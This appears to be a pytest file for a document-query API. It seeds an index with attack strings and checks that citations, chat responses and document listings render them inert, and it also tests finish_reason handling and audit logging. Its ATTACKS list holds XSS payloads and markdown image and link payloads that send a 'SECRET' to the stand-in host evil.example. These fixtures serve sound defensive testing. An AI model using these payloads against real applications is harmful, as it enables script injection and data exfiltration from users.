"""Every document-derived string that leaves is safe; finish_reason passes through and the
audit lists only what was returned.

The schema walk: the response schemas (OpenAPI) name every string field of a citation and a
document listing; each is filled in the index with attack strings (a file name, heading or page
that is markup), then every path that returns them is called: /v1/query (JSON and stream),
/v1/search, the chat facade (JSON and stream, with its sources footer) and /v1/documents. Every
Markdown string in every response must render inert in both markdown renderers and carry no tag
start; title, source and page are plain text: the document's own text on one line, never escaped.
"""

from __future__ import annotations

import hashlib
import json
import logging
import re
import uuid
from collections.abc import Iterator
from typing import Any

import pytest

from docquery.api.audit import AUDIT_LOGGER
from docquery.core.domain import Chunk, DocumentRecord, IndexedChunk
from tests.support.api_harness import (
    Harness,
    bearer,
    chat_stream_text,
    sse_events,
)
from tests.support.fixtures import harness_fixture, standin_fixture
from tests.support.markdown_oracle import violations
from tests.support.standins.openai_server import StandInOpenAIServer
from tests.unit.test_answer_html import assert_inert as assert_html_inert

AUTH = bearer("tok-alice-eng")
ATTACKS = [
    "<img src=x onerror=alert(1)>",
    "![x](http://evil.example/x?d=SECRET)",
    "[click](http:evil.example/x?d=SECRET)",
    "# Heading\n\n<script>alert(1)</script>",
    "[x](http&#58;&#47;&#47;evil.example/x)",
    "<http://evil.example/auto>",
    "www.evil.example/x?d=SECRET",
    "SECRET@evil.example",
    "[r]: http://evil.example\n\n[x][r]",
    "<!-- hidden --><iframe src=//evil.example>",
    "\x1b[31mred\x1b[0m \u202eevil",
    "> [r]:\n> http://evil.example/x\n\n[r]",
]
# Strings the service writes itself (not from a document): not attack-filled.
SERVICE_FIELDS = {("Citation", "id"), ("DocumentInfo", "status")}
# A snippet is only ever a run the sanitiser leaves alone, so no attack reaches it (tests/unit/test_citations.py).
NEVER_ATTACKED = {("Citation", "snippet")}


def _strings(value: Any, path: str = "") -> Iterator[tuple[str, str]]:
    if isinstance(value, str):
        yield path, value
    elif isinstance(value, dict):
        for k, v in value.items():
            yield from _strings(v, f"{path}.{k}")
    elif isinstance(value, list):
        for i, v in enumerate(value):
            yield from _strings(v, f"{path}[{i}]")


# Plain-text fields (a client shows them as text): the attack comes back as written, on one line.
PLAIN_FIELDS = ("title", "source", "page")


def _one_line(attack: str) -> str:
    return " ".join(re.sub(r"[\x00-\x1f\x7f-\x9f]+", " ", attack.replace("\u202e", "")).split())


# Markdown fields; the rest are plain text, which keeps domain-shaped names ("guide.md") unescaped.
_MARKDOWN_FIELDS = (".answer", ".content", ".text")


def _assert_inert(where: str, value: Any) -> None:
    for path, text in _strings(value):
        if path.endswith(".answer_html"):  # HTML by design: held to the HTML allowlist instead
            assert_html_inert(text)
            continue
        if path.rsplit(".", 1)[-1] in PLAIN_FIELDS:
            assert any(text in (_one_line(a), _one_line(a) + ".md") for a in ATTACKS), (where, path, text)
            continue
        markdown = not path or path.endswith(_MARKDOWN_FIELDS)
        assert not violations(text, linkify=markdown), (where, path, text, violations(text, linkify=markdown))
        assert not re.search(r"<[A-Za-z!/?]", text), (where, path, text)


standin = standin_fixture(scope="module")


def _add_attacks(harness: Harness) -> None:
    """One document per attack, which every field of the document and its chunk carries."""
    index, embedder = harness.corpus.index, harness.corpus.embedder
    for n, attack in enumerate(ATTACKS):
        doc_id = f"{attack}-{n}"
        text = f"vacation policy leave days {attack}"
        chunk = Chunk(
            id=str(uuid.uuid5(uuid.NAMESPACE_URL, doc_id)),
            doc_id=doc_id,
            source=f"{attack}.md",
            title=attack,
            chunk_index=0,
            text=text,
            content_sha256=hashlib.sha256(text.encode()).hexdigest(),
            acl_groups=("eng",),
            page=attack,
            ingested_at=attack,
        )
        index.upsert([IndexedChunk(chunk=chunk, dense=embedder.embed([text])[0])])
        index.put_document(
            DocumentRecord(
                doc_id=doc_id,
                source=f"{attack}.md",
                root="/corpus",
                content_sha256="0" * 64,
                chunk_count=1,
                acl_groups=("eng",),
                title=attack,
                ingested_at=attack,
            )
        )


h = harness_fixture(llm_server="standin", prepare=_add_attacks)


def _schema_string_fields(h: Harness, model: str) -> set[str]:
    schema = h.client.get("/openapi.json").json()["components"]["schemas"][model]["properties"]
    out = set()
    for name, prop in schema.items():
        types = {prop.get("type")} | {alt.get("type") for alt in prop.get("anyOf", [])}
        if "string" in types:
            out.add(name)
    return out


def test_every_document_derived_field_is_safe_on_every_path(h: Harness, standin: StandInOpenAIServer) -> None:
    standin.config.reply = ["See [S1]. ", *ATTACKS[:3]]
    q = {"question": "vacation policy leave days", "top_k": len(ATTACKS)}
    chat = {"model": "docquery", "messages": [{"role": "user", "content": q["question"]}]}
    seen: dict[str, set[str]] = {"Citation": set(), "DocumentInfo": set()}

    def record(model: str, items: list[dict[str, Any]]) -> None:
        for item in items:
            seen[model] |= {k for k, v in item.items() if isinstance(v, str) and any(a[:6] in v for a in ATTACKS)}

    r = h.client.post("/v1/query", json=q, headers=AUTH).json()
    _assert_inert("query", r)
    record("Citation", r["citations"])
    assert len(r["citations"]) == len(ATTACKS)

    events = sse_events(h.client.post("/v1/query", json={**q, "stream": True}, headers=AUTH).text)
    _assert_inert("query stream", [d for _, d in events])
    _assert_inert("query stream text", "".join(d["text"] for e, d in events if e == "delta"))
    record("Citation", events[0][1]["citations"])

    r = h.client.post("/v1/search", json={"query": q["question"], "top_k": len(ATTACKS)}, headers=AUTH).json()
    _assert_inert("search", r)
    record("Citation", r["citations"])

    r = h.client.post("/v1/chat/completions", json=chat, headers=AUTH).json()
    _assert_inert("chat", r)
    record("Citation", r["citations"])

    text, chunks = chat_stream_text(
        h.client.post("/v1/chat/completions", json={**chat, "stream": True}, headers=AUTH).text
    )
    _assert_inert("chat stream", chunks)
    _assert_inert("chat stream text", text)
    assert "Sources:" in text

    r = h.client.get("/v1/documents", headers=AUTH).json()
    _assert_inert("documents", r)
    record("DocumentInfo", r["documents"])

    # Every string field of the response schemas was filled with an attack and came back safe.
    for model, filled in seen.items():
        expected = _schema_string_fields(h, model) - {f for m, f in SERVICE_FIELDS | NEVER_ATTACKED if m == model}
        assert expected <= filled, (model, expected - filled)


def test_a_safe_label_keeps_ordinary_names(h: Harness) -> None:
    label = h.components.pipeline.sanitizer.label
    for name in ["hr/policy_2024.md", "Leave policy (2024) - v2", "p. 12", "Q&A: pay", "2026-12-01T08:00:00+00:00"]:
        assert label(name) == name
    # A pathological heading is cut before it is parsed (bracket runs are not linear to parse).
    long = label("[" * 50_000)
    assert len(long) <= 2 * 1024 + 1 and long.endswith("…")


# -- finish_reason ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("upstream", "query", "facade"),
    [("length", "length", "length"), ("stop", "stop", "stop"), ("x<img>", None, "stop")],
)
def test_finish_reason_passes_through(
    h: Harness, standin: StandInOpenAIServer, upstream: str, query: str | None, facade: str
) -> None:
    standin.config.reply = ["You get 25 days ", "of paid leave [S1]"]
    standin.config.finish_reason = upstream
    try:
        q = {"question": "vacation policy leave days"}
        assert h.client.post("/v1/query", json=q, headers=AUTH).json()["finish_reason"] == query
        events = sse_events(h.client.post("/v1/query", json={**q, "stream": True}, headers=AUTH).text)
        assert events[-1][0] == "done" and events[-1][1]["finish_reason"] == query
        chat = {"model": "docquery", "messages": [{"role": "user", "content": q["question"]}]}
        r = h.client.post("/v1/chat/completions", json=chat, headers=AUTH).json()
        assert r["choices"][0]["finish_reason"] == facade
        _, chunks = chat_stream_text(
            h.client.post("/v1/chat/completions", json={**chat, "stream": True}, headers=AUTH).text
        )
        reasons = [c["choices"][0]["finish_reason"] for c in chunks if c.get("choices")]
        assert reasons[-1] == facade and all(r is None for r in reasons[:-1])
    finally:
        standin.config.finish_reason = "stop"


def test_a_refusal_finishes_with_stop(h: Harness) -> None:
    r = h.client.post("/v1/query", json={"question": "zebra quantum"}, headers=bearer("tok-bob-hr")).json()
    assert r["finish_reason"] == "stop" and r["citations"] == []


# -- audit: only what was returned ----------------------------------------------------------------


def _audit(caplog: pytest.LogCaptureFixture) -> list[dict[str, Any]]:
    return [json.loads(r.getMessage()) for r in caplog.records if r.name == AUDIT_LOGGER]


@pytest.mark.parametrize("stream", [False, True])
def test_audit_of_a_failed_request_lists_no_ids(
    h: Harness, standin: StandInOpenAIServer, caplog: pytest.LogCaptureFixture, stream: bool
) -> None:
    caplog.set_level(logging.INFO, logger=AUDIT_LOGGER)
    q = {"question": "vacation policy leave days", "stream": stream}
    standin.config.fail_statuses = [500]
    failed = h.client.post("/v1/query", json=q, headers=AUTH)
    assert failed.status_code in (502, 503)
    ok = h.client.post("/v1/query", json=q, headers=AUTH)
    assert ok.status_code == 200
    records = {rec["request_id"]: rec for rec in _audit(caplog)}
    bad, good = records[failed.headers["x-request-id"]], records[ok.headers["x-request-id"]]
    assert bad["doc_ids"] == [] and bad["chunk_ids"] == []
    assert len(good["doc_ids"]) == len(good["chunk_ids"]) > 0
